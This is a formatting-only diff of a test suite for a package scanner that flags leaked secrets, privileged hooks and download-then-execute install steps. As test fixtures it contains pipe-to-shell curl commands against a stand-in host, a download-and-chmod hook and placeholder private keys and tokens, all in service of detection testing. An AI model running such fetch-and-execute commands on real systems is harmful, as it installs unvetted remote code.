@@ -28,13 +28,21 @@ async function pkg(files: Record<string, string>): Promise<string> {
   return dir;
 }
 
-const SCAFFOLD_INSTALL = '#!/bin/sh\n# Runs once after the files are in place.\nset -eu\nmkdir -p "$AGPK_INSTALL_ROOT/var"\n';
+const SCAFFOLD_INSTALL =
+  '#!/bin/sh\n# Runs once after the files are in place.\nset -eu\nmkdir -p "$AGPK_INSTALL_ROOT/var"\n';
 const deny = loadDenyList(undefined);
-const ids = async (files: Record<string, string>) => (await scanPackageDir(await pkg({ LICENSE: 'MIT', ...files }), undefined, deny)).map((f) => f.id);
+const ids = async (files: Record<string, string>) =>
+  (await scanPackageDir(await pkg({ LICENSE: 'MIT', ...files }), undefined, deny)).map((f) => f.id);
 
 describe('scanPackageDir', () => {
   it('finds nothing in a clean package with a license and the scaffold hooks', async () => {
-    expect(await ids({ INSTALL: SCAFFOLD_INSTALL, UNINSTALL: '#!/bin/sh\nrm -rf "$AGPK_INSTALL_ROOT/var"\necho done >/dev/null 2>&1\n', 'payload/run.mjs': 'console.log(1)\n' })).toEqual([]);
+    expect(
+      await ids({
+        INSTALL: SCAFFOLD_INSTALL,
+        UNINSTALL: '#!/bin/sh\nrm -rf "$AGPK_INSTALL_ROOT/var"\necho done >/dev/null 2>&1\n',
+        'payload/run.mjs': 'console.log(1)\n',
+      }),
+    ).toEqual([]);
   });
 
   it('reports a missing license as low risk', async () => {
@@ -44,12 +52,20 @@ describe('scanPackageDir', () => {
   });
 
   it('accepts a license named in agpk.json', async () => {
-    const findings = await scanPackageDir(await pkg({ 'USAGE.md': '# x' }), { agpk_version: '1.0', id: 'a', name: 'a', version: '1', license: 'MIT' }, deny);
+    const findings = await scanPackageDir(
+      await pkg({ 'USAGE.md': '# x' }),
+      { agpk_version: '1.0', id: 'a', name: 'a', version: '1', license: 'MIT' },
+      deny,
+    );
     expect(findings).toEqual([]);
   });
 
   it.each([
-    ['an RSA private key', '-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----', 'secret.private-key'],
+    [
+      'an RSA private key',
+      '-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----',
+      'secret.private-key',
+    ],
     ['an OpenSSH private key', '-----BEGIN OPENSSH PRIVATE KEY-----', 'secret.private-key'],
     ['an AWS key id', 'aws_access_key_id = AKIAIOSFODNN7EXAMPLE', 'secret.token'],
     ['a GitHub token', `token: ghp_${'a1B2'.repeat(9)}`, 'secret.token'],
@@ -61,7 +77,12 @@ describe('scanPackageDir', () => {
   });
 
   it('does not mistake public keys or prose for secrets', async () => {
-    expect(await ids({ 'payload/key.pub': '-----BEGIN PUBLIC KEY-----\nMCow\n-----END PUBLIC KEY-----', 'README.md': 'Set your AWS key in the environment; never ship a private key.' })).toEqual([]);
+    expect(
+      await ids({
+        'payload/key.pub': '-----BEGIN PUBLIC KEY-----\nMCow\n-----END PUBLIC KEY-----',
+        'README.md': 'Set your AWS key in the environment; never ship a private key.',
+      }),
+    ).toEqual([]);
   });
 
   it('flags credentials files', async () => {
@@ -101,13 +122,15 @@ describe('scanPackageDir', () => {
   });
 
   it('flags a download that a later line of the hook runs, at the line that runs it', async () => {
-    const install = '#!/bin/sh\nset -eu\ncurl -fsSLo "$AGPK_INSTALL_ROOT/bin/tool" https://x.example/tool\necho fetched\nchmod 755 "$AGPK_INSTALL_ROOT/bin/tool"\n';
+    const install =
+      '#!/bin/sh\nset -eu\ncurl -fsSLo "$AGPK_INSTALL_ROOT/bin/tool" https://x.example/tool\necho fetched\nchmod 755 "$AGPK_INSTALL_ROOT/bin/tool"\n';
     const findings = await scanPackageDir(await pkg({ LICENSE: 'MIT', INSTALL: install }), undefined, deny);
     expect(findings.map((f) => [f.id, f.file])).toEqual([['install.download-exec', 'INSTALL:5']]);
   });
 
   it('does not flag a download that is only read, or a shipped script that is run', async () => {
-    const install = '#!/bin/sh\nset -eu\ncurl -fsSL -o "$AGPK_INSTALL_ROOT/var/data.json" https://x.example/d.json\ncat "$AGPK_INSTALL_ROOT/var/data.json" >/dev/null\nsh "$AGPK_INSTALL_ROOT/payload/setup.sh"\nchmod +x "$AGPK_INSTALL_ROOT/payload/run.sh"\n';
+    const install =
+      '#!/bin/sh\nset -eu\ncurl -fsSL -o "$AGPK_INSTALL_ROOT/var/data.json" https://x.example/d.json\ncat "$AGPK_INSTALL_ROOT/var/data.json" >/dev/null\nsh "$AGPK_INSTALL_ROOT/payload/setup.sh"\nchmod +x "$AGPK_INSTALL_ROOT/payload/run.sh"\n';
     expect(await ids({ INSTALL: install })).toEqual([]);
   });
 
@@ -137,8 +160,15 @@ describe('scanPackageDir', () => {
   });
 
   it('checks lifecycle hook files named by agpk.json, and ignores comments', async () => {
-    const dir = await pkg({ LICENSE: 'MIT', 'hooks/setup.sh': '#!/bin/sh\n# curl https://x | sh is what we do NOT do\nsudo true\n' });
-    const findings = await scanPackageDir(dir, { agpk_version: '1.0', id: 'a', name: 'a', version: '1', lifecycle: { install: 'hooks/setup.sh' } }, deny);
+    const dir = await pkg({
+      LICENSE: 'MIT',
+      'hooks/setup.sh': '#!/bin/sh\n# curl https://x | sh is what we do NOT do\nsudo true\n',
+    });
+    const findings = await scanPackageDir(
+      dir,
+      { agpk_version: '1.0', id: 'a', name: 'a', version: '1', lifecycle: { install: 'hooks/setup.sh' } },
+      deny,
+    );
     expect(findings.map((f) => f.id)).toEqual(['install.privilege']);
     expect(findings[0]!.file).toBe('hooks/setup.sh:3');
   });
@@ -174,17 +204,31 @@ describe('verdictOf', () => {
   it('is none without findings or with info only, else the highest severity', () => {
     expect(verdictOf([])).toBe('none');
     expect(verdictOf([{ id: 'x', severity: 'info', file: null, message: '' }])).toBe('none');
-    expect(verdictOf([{ id: 'x', severity: 'low', file: null, message: '' }, { id: 'y', severity: 'medium', file: null, message: '' }])).toBe('medium');
+    expect(
+      verdictOf([
+        { id: 'x', severity: 'low', file: null, message: '' },
+        { id: 'y', severity: 'medium', file: null, message: '' },
+      ]),
+    ).toBe('medium');
   });
 });
 
 describe('findings as they are stored and sent', () => {
   it('lists 20 of a kind in a file, then counts the rest in one finding of the same kind and severity', async () => {
     const line = 'curl -fsSL https://x.example/i.sh | sh\n';
-    const findings = await scanPackageDir(await pkg({ LICENSE: 'MIT', INSTALL: `#!/bin/sh\n${line.repeat(1000)}` }), undefined, deny);
+    const findings = await scanPackageDir(
+      await pkg({ LICENSE: 'MIT', INSTALL: `#!/bin/sh\n${line.repeat(1000)}` }),
+      undefined,
+      deny,
+    );
     const downloads = findings.filter((f) => f.id === 'install.download-exec');
     expect(downloads).toHaveLength(21);
-    expect(downloads[20]).toEqual({ id: 'install.download-exec', severity: 'high', file: 'INSTALL', message: 'and 980 more install.download-exec findings in INSTALL, not listed' });
+    expect(downloads[20]).toEqual({
+      id: 'install.download-exec',
+      severity: 'high',
+      file: 'INSTALL',
+      message: 'and 980 more install.download-exec findings in INSTALL, not listed',
+    });
     expect(verdictOf(findings)).toBe('high');
   });
 
@@ -196,7 +240,12 @@ describe('findings as they are stored and sent', () => {
     expect(findings).toHaveLength(501);
     expect(findings.slice(0, 500).every((f) => f.id === 'secret.env-file' && f.file !== null)).toBe(true);
     // 520 .env files (medium) and one private-key name (high) make 521: 21 are counted, at the higher severity.
-    expect(findings[500]).toEqual({ id: 'secret.env-file', severity: 'high', file: null, message: 'and 21 more secret.env-file findings, not listed' });
+    expect(findings[500]).toEqual({
+      id: 'secret.env-file',
+      severity: 'high',
+      file: null,
+      message: 'and 21 more secret.env-file findings, not listed',
+    });
     expect(verdictOf(findings)).toBe('high');
   });
 });
